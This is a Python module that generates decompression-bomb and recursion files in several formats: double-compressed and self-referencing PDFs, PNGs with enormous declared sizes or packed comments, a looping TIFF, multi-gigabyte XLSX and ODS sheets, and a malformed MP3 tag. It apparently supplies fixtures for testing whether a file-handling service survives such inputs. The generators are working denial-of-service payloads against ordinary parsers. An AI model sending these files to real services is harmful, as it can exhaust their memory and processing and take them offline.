"""Files that grow when they are opened: small to hand in, without end for whoever unpacks all of them."""

import struct
import zlib
from collections.abc import Callable, Iterator
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

MIB = 2**20


def _packed(parts: Iterator[bytes]) -> bytes:
    packer = zlib.compressobj(9)
    return b"".join(packer.compress(part) for part in parts) + packer.flush()


def _pdf(*objects: bytes) -> bytes:
    """A document of these objects, the first of which is its catalogue. Its list of places is left to the reader."""
    body = b"%PDF-1.7\n" + b"".join(b"%d 0 obj\n%s\nendobj\n" % (at, one) for at, one in enumerate(objects, start=1))
    return body + b"trailer\n<< /Size %d /Root 1 0 R >>\n%%%%EOF\n" % (len(objects) + 1)


def _stream(content: bytes, more: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(content), more, content)


CATALOGUE = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
FONT = b"/Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >>"


def _page(resources: bytes = FONT) -> bytes:
    return b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R /Resources << %s >> >>" % resources


def pdf_packed_twice() -> bytes:
    """1 GiB of spaces in a page's content, packed twice."""
    inner = _packed(b" " * MIB for _ in range(1024))
    return _pdf(CATALOGUE, PAGES, _page(), _stream(zlib.compress(inner), b"/Filter [/FlateDecode /FlateDecode]"))


def pdf_of_words() -> bytes:
    """64 MiB of operators that each write a word."""
    written = b"BT /F 10 Tf 20 700 Td " + b"(word ) Tj " * (MIB // 11)
    return _pdf(CATALOGUE, PAGES, _page(), _stream(_packed(written for _ in range(64)), b"/Filter /FlateDecode"))


def pdf_of_forms() -> bytes:
    """A page that draws a form ten times, which draws another ten times, and so on twelve times over."""
    levels = range(12)
    forms = [
        _stream(
            b"/X Do " * 10 if level < 11 else b"BT /F 10 Tf (word ) Tj ET",
            b"/Type /XObject /Subtype /Form /BBox [0 0 600 800] /Resources << %s /XObject << /X %d 0 R >> >>"
            % (FONT, 6 + level),
        )
        for level in levels
    ]
    return _pdf(CATALOGUE, PAGES, _page(FONT + b" /XObject << /X 5 0 R >>"), _stream(b"/X Do " * 10), *forms)


def pdf_in_a_circle() -> bytes:
    """Pages whose parents are their children, and which say that they are two thousand million."""
    return _pdf(CATALOGUE, b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2000000000 >>")


def png(*, width: int, height: int) -> bytes:
    """A picture of so many pixels, of which none is there."""
    head = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"IDAT", b"") + _chunk(b"IEND", b"")


def png_of_words() -> bytes:
    """A picture of one pixel with 64 comments of 8 MiB each, packed."""
    head = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    words = b"Comment\x00\x00" + _packed(b"a" * MIB for _ in range(8))
    comments = _chunk(b"zTXt", words) * 64
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + comments + _chunk(b"IDAT", b"") + _chunk(b"IEND", b"")


def _chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def tiff_in_a_circle() -> bytes:
    """A picture whose next directory is the one that it stands in."""
    entry = struct.pack("<HHII", 256, 4, 1, 4_000_000_000)
    other = struct.pack("<HHII", 257, 4, 1, 4_000_000_000)
    return b"II*\x00" + struct.pack("<I", 8) + struct.pack("<H", 2) + entry + other + struct.pack("<I", 8)


def xlsx_of_cells() -> bytes:
    """A sheet that is 1 GiB of rows when it is unpacked."""
    row = b"<row>" + b'<c t="inlineStr"><is><t>word</t></is></c>' * 100 + b"</row>"
    return _xlsx(row * (MIB // len(row)), times=1024)


def xlsx_at_the_far_corner() -> bytes:
    """Two cells, between which there is every other one of the sheet."""
    cell = b'<row r="%d"><c r="%s" t="inlineStr"><is><t>word</t></is></c></row>'
    return _xlsx(cell % (1, b"A1") + cell % (1_048_576, b"XFD1048576"))


MAIN = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OFFICE = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELATIONS = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">%s</Relationships>'
RELATION = b'<Relationship Id="r1" Type="%s/%s" Target="%s"/>'
WORKBOOK = {
    "_rels/.rels": RELATIONS % (RELATION % (OFFICE, b"officeDocument", b"xl/workbook.xml")),
    "[Content_Types].xml": b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
    "xl/workbook.xml": b'<workbook xmlns="%s" xmlns:r="%s"><sheets><sheet name="S" sheetId="1" r:id="r1"/></sheets>'
    b"</workbook>" % (MAIN, OFFICE),
    "xl/_rels/workbook.xml.rels": RELATIONS % (RELATION % (OFFICE, b"worksheet", b"worksheets/sheet1.xml")),
}


def _xlsx(part: bytes, times: int = 1) -> bytes:
    """A workbook of one sheet, whose rows are this part, so many times."""
    made = BytesIO()
    with ZipFile(made, "w", ZIP_DEFLATED) as package:
        for name, content in WORKBOOK.items():
            package.writestr(name, content)
        with package.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            sheet.write(b'<worksheet xmlns="%s"><sheetData>' % MAIN)
            for _ in range(times):
                sheet.write(part)
            sheet.write(b"</sheetData></worksheet>")
    return made.getvalue()


MANIFEST = (
    b'<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"></manifest:manifest>'
)


def ods_of_one_cell() -> bytes:
    """One cell that says it stands sixteen thousand times in each of a million rows."""
    content = (
        b'<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        b'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
        b'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet>'
        b'<table:table table:name="S"><table:table-row table:number-rows-repeated="1048576">'
        b'<table:table-cell office:value-type="string" table:number-columns-repeated="16384"><text:p>word</text:p>'
        b"</table:table-cell></table:table-row></table:table></office:spreadsheet></office:body>"
        b"</office:document-content>"
    )
    made = BytesIO()
    with ZipFile(made, "w") as package:
        package.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        package.writestr("content.xml", content)
        package.writestr("META-INF/manifest.xml", MANIFEST)
    return made.getvalue()


def mp3_of_one_frame() -> bytes:
    """A tag that is said to be 256 MiB, with frames that are said to be packed into more."""
    frame = b"COMM" + b"\x7f\x7f\x7f\x7f" + b"\x00\x09" + b"\xff\xff\xff\x7f" + zlib.compress(b"\x00" * MIB)
    return b"ID3\x04\x00\x00\x7f\x7f\x7f\x7f" + frame


FILES: dict[str, Callable[[], bytes]] = {
    "pdf packed twice": pdf_packed_twice,
    "pdf of words": pdf_of_words,
    "pdf of forms": pdf_of_forms,
    "pdf in a circle": pdf_in_a_circle,
    "png of 10^10 pixels": lambda: png(width=100_000, height=100_000),
    "png of words": png_of_words,
    "tiff in a circle": tiff_in_a_circle,
    "xlsx of cells": xlsx_of_cells,
    "xlsx at the far corner": xlsx_at_the_far_corner,
    "ods of one cell": ods_of_one_cell,
    "mp3 of one frame": mp3_of_one_frame,
}
